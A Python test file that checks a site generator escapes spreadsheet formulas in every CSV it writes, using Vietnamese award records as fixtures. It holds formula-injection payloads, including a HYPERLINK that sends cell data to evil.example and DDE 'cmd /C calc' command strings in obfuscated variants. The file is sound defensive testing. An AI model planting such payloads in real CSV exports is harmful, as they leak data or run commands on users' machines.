"""Untrusted input (issue 16, docs/security.md): spreadsheet formulas, slow Markdown, invisible
characters and workbook bombs, each tried in several shapes, not only the one first reported."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from generator.csvout import csv_lines, is_inert, spreadsheet_cell
from tests.editors_project import run, write_project

TODAY = "2026-06-01"

# --- spreadsheet formulas in every CSV ------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Xem")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(1)",  # full-width "="
    "Phong trào;=HYPERLINK(2)",  # a new cell where ";" is the list separator
    "Phong trào,\t@SUM(3)",
]


@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\u200b=1+1", " =1", "a\r\n=1"])
def test_every_formula_shape_is_made_inert(value: str) -> None:
    assert not is_inert(value)
    assert is_inert(spreadsheet_cell(value))
    # Read back through the csv module, the cell is the escaped text, whole.
    (row,) = csv.reader(io.StringIO(csv_lines([[value, "x"]]).decode(), newline=""))
    assert row == [spreadsheet_cell(value), "x"]


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "2019-08-20", "1234/QĐ-CTN", "Hà Nội, 2020"])
def test_ordinary_cells_are_kept(value: str) -> None:
    assert spreadsheet_cell(value) == value


def _campaign(title: str, short: str, launched: str, criterion: str) -> str:
    return f"""\
---
slug: nong-thon-moi
title: '{title.replace("'", "''")}'
short_name: '{short.replace("'", "''")}'
launched_by: '{launched.replace("'", "''")}'
level: national
start: 2016-01-01
end: 2020-12-31
criteria: ['{criterion.replace("'", "''")}']
---
Phong trào thử nghiệm.
"""


def _quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _person(family: str, given: str, position: str, unit: str, number: str) -> str:
    return f"""\
slug: nguyen-van-an
kind: individual
name: {{family: {_quoted(family)}, given: {_quoted(given)}}}
position: {_quoted(position)}
unit: {_quoted(unit)}
locality: {{province: Quảng Trị, district: Triệu Phong, commune: Triệu Thành, as_of: 2019-05-01}}
campaigns: [nong-thon-moi]
awards:
  - award: huan-chuong-lao-dong
    class: ba
    year: 2019
    decision_number: {_quoted(number)}
    decision_date: 2019-08-20
    issuer: Chủ tịch nước
    issuer_level: state
    campaign: nong-thon-moi
summary: {_quoted(FORMULAS[0])}
"""


def test_every_csv_the_build_writes_is_inert(tmp_path: Path) -> None:
    root = write_project(
        tmp_path,
        **{
            "content__campaigns__nong-thon-moi.md": _campaign(*FORMULAS[:4]),
            "profiles__nguyen-van-an.yml": _person(*FORMULAS[2:7]),
        },
    )
    code, output = run("build", "--root", str(root), "--today", TODAY)
    assert code == 0, output
    written = sorted((root / "site").rglob("*.csv"))
    names = {p.relative_to(root / "site").as_posix() for p in written}
    assert {"du-lieu/vinh-danh.csv", "du-lieu/honours.csv", "thong-ke/thong-ke.csv"} <= names
    seen = ""
    for path in written:
        text = path.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert is_inert(cell), (path.name, cell)
        # Whatever separator a spreadsheet program splits on, no piece starts a formula.
        assert is_inert(text.replace('"', "")), path.name
        seen += text
    # The payloads did reach the files (escaped), so the test tested something.
    for escaped in ("'=HYPERLINK", "'-2+3+cmd", "'\uff1dHYPERLINK", ";'=HYPERLINK(2)", "'@SUM(3)"):
        assert escaped in seen, escaped
